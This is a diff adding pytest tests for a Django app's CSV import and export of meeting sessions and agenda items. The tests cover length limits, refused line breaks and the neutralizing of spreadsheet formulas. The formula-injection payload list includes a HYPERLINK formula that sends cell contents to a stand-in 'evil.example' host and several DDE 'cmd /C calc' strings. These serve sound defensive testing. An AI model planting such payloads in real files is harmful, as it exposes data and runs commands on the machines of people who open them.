@@ -1,8 +1,11 @@
 """CSV import with preview (created, changed, refused row by row) and export."""
 
+import csv
 import datetime as dt
+import io
 
 import pytest
+from django.urls import reverse
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -174,3 +177,181 @@ def test_any_text_gives_a_report_or_a_clear_error_and_keeps_nothing(bodies, text
 def test_a_stray_carriage_return_in_the_header_is_a_clear_error(bodies):
     with pytest.raises(csvio.CsvError, match="Unknown column"):
         csvio.csv_import("sessions", 'body,"x\r', commit=False)
+
+
+# --- lengths and one-line text: refused with the row and the limit, never cut -------------
+
+
+def test_an_agenda_title_longer_than_the_limit_is_refused_with_the_row_and_the_limit(bodies):
+    SessionFactory(key="scpf-9", body=bodies[1], number=9, is_published=False)
+    text = f"session,label,title\nscpf-9,1,Opening\nscpf-9,2,{'x' * 5000}\n"
+    report = csvio.csv_import("agenda_items", text, commit=True)
+    assert [(r.line, r.action, r.errors) for r in report.rows] == [
+        (2, "create", []),
+        (3, "refuse", ["title: Ensure this value has at most 400 characters (it has 5000)."]),
+    ]
+    assert list(AgendaItem.objects.values_list("label", "title")) == [("1", "Opening")]
+
+
+def test_an_over_long_agenda_title_for_a_published_session_never_reaches_its_draft(bodies):
+    SessionFactory(key="council-99")
+    text = f"session,label,title\ncouncil-99,1,{'x' * 401}\n"
+    (row,) = csvio.csv_import("agenda_items", text, commit=True).rows
+    assert row.action == "refuse"
+    assert not SessionDraft.objects.exists()
+
+
+MINIMAL_ROWS = {
+    "sessions": {"body": "council", "number": "1"},
+    "meetings": {"session": "scpf-9", "number": "1"},
+    "agenda_items": {"session": "scpf-9", "label": "1", "title": "Opening"},
+    "documents": {"symbol": "SCPF/40"},
+}
+LIMITED_COLUMNS = [
+    (kind_name, column, kind.text_field(column).max_length)
+    for kind_name, kind in sorted(csvio.KINDS.items())
+    for column in kind.columns
+    if kind.text_field(column) is not None and kind.text_field(column).max_length
+]
+
+
+def test_every_kind_has_its_length_limited_columns_checked():
+    assert {(kind, column) for kind, column, _limit in LIMITED_COLUMNS} >= {
+        ("sessions", "name"),
+        ("sessions", "date_label"),
+        ("meetings", "title"),
+        ("agenda_items", "title"),
+        ("agenda_items", "label"),
+        ("agenda_items", "parent"),
+        ("documents", "title"),
+        ("documents", "symbol"),
+    }
+
+
+@pytest.mark.parametrize(("kind", "column", "limit"), LIMITED_COLUMNS)
+def test_a_cell_longer_than_its_column_allows_is_refused_with_the_limit(
+    bodies, kind, column, limit
+):
+    SessionFactory(key="scpf-9", body=bodies[1], number=9, is_published=False)
+    row = {**MINIMAL_ROWS[kind], column: "a" * (limit + 1)}
+    text = ",".join(row) + "\n" + ",".join(row.values()) + "\n"
+    (result,) = csvio.csv_import(kind, text, commit=True).rows
+    assert (result.line, result.action) == (2, "refuse")
+    assert (
+        f"{column}: Ensure this value has at most {limit} characters (it has {limit + 1})."
+        in result.errors
+    )
+
+
+def test_a_line_break_in_a_csv_name_or_title_is_refused_with_the_row(bodies):
+    SessionFactory(key="scpf-9", body=bodies[1], number=9, is_published=False)
+    report = csvio.csv_import(
+        "agenda_items",
+        'session,label,title\nscpf-9,1,"Opening\r\nBcc: x@example.org"\n',
+        commit=True,
+    )
+    assert [(r.line, r.action, r.errors) for r in report.rows] == [
+        (
+            3,
+            "refuse",
+            [
+                "title: Names and titles are one line of plain text: remove the control "
+                "character U+000D at position 8."
+            ],
+        )
+    ]
+    sessions = csvio.csv_import(
+        "sessions", 'body,name\ncouncil,"Retreat\nand dinner"\n', commit=True
+    )
+    assert sessions.rows[0].action == "refuse" and sessions.rows[0].errors[0].startswith("name: ")
+    assert not AgendaItem.objects.exists() and not Session.objects.filter(number=None).exists()
+
+
+# --- CSV injection: exported cells never start a formula; import undoes exactly that -------
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+    "-5",
+    "'=already quoted",
+    "'s-Hertogenbosch",
+    " leading and trailing spaces ",
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(exported: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
+
+
+def test_exported_formulas_are_neutralized_and_import_back_exactly(bodies):
+    for number, payload in enumerate(PAYLOADS, start=1):
+        SessionFactory(key=f"council-{number:02d}", number=number, notes=payload)
+    exported = csvio.csv_export("sessions")
+    cells = _cells(exported)
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    notes = [row["notes"] for row in csv.DictReader(io.StringIO(exported, newline=""))]
+    assert notes == [csvio.export_cell(payload) for payload in PAYLOADS]
+    assert notes[:3] == ["'" + PAYLOADS[0], "'" + PAYLOADS[1], "'" + PAYLOADS[2]]
+    assert notes[10] == "'s-Hertogenbosch"  # nothing to neutralize: left as it is
+    report = csvio.csv_import("sessions", exported, commit=True)
+    assert {r.action for r in report.rows} == {"unchanged"}
+    assert list(Session.objects.order_by("number").values_list("notes", flat=True)) == PAYLOADS
+
+
+def test_a_leading_tab_is_not_stripped_into_an_active_formula(bodies):
+    SessionFactory(key="council-99", number=99, notes="", is_published=False)
+    csvio.csv_import("sessions", 'key,body,notes\ncouncil-99,council,"\t=1+1"\n', commit=True)
+    assert Session.objects.get().notes == "\t=1+1"
+    (row,) = csv.DictReader(io.StringIO(csvio.csv_export("sessions"), newline=""))
+    assert row["notes"] == "'\t=1+1"
+
+
+def test_a_hand_written_apostrophe_before_a_formula_character_is_the_escape(bodies):
+    SessionFactory(key="council-99", number=99, notes="", is_published=False)
+    csvio.csv_import("sessions", "key,body,notes\ncouncil-99,council,'-5 delegates\n", commit=True)
+    assert Session.objects.get().notes == "-5 delegates"
+
+
+@pytest.mark.parametrize("path", ["/api/v1/exports/sessions/", "admin"])
+def test_the_api_and_the_admin_exports_are_neutralized(bodies, client, editor, path):
+    SessionFactory(key="council-99", number=99, notes="=cmd|' /C calc'!A0")
+    if path == "admin":
+        editor.is_superuser = True
+        editor.save()
+        path = reverse("admin:meetings_session_export", args=["sessions"])
+    client.force_login(editor)
+    response = client.get(path)
+    assert response.status_code == 200
+    (row,) = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
+    assert row["notes"] == "'=cmd|' /C calc'!A0"
+
+
+@given(st.text())
+def test_any_cell_text_survives_export_then_import_and_never_starts_a_formula(text):
+    cell = csvio.export_cell(text)
+    assert csvio.import_cell(cell) == text
+    assert not cell.startswith(FORMULA_STARTS)
+
+
+# PostgreSQL text cannot hold NUL, and a file with NUL is refused whole.
+NOTES = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=60)
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(NOTES)
+def test_any_stored_text_round_trips_through_a_csv_file(bodies, notes):
+    session = Session.objects.first() or SessionFactory(key="council-99", number=99)
+    Session.objects.filter(pk=session.pk).update(notes=notes)
+    exported = csvio.csv_export("sessions")
+    assert not [cell for cell in _cells(exported) if cell.startswith(FORMULA_STARTS)]
+    (row,) = csvio.csv_import("sessions", exported, commit=False).rows
+    assert (row.action, row.errors) == ("unchanged", [])
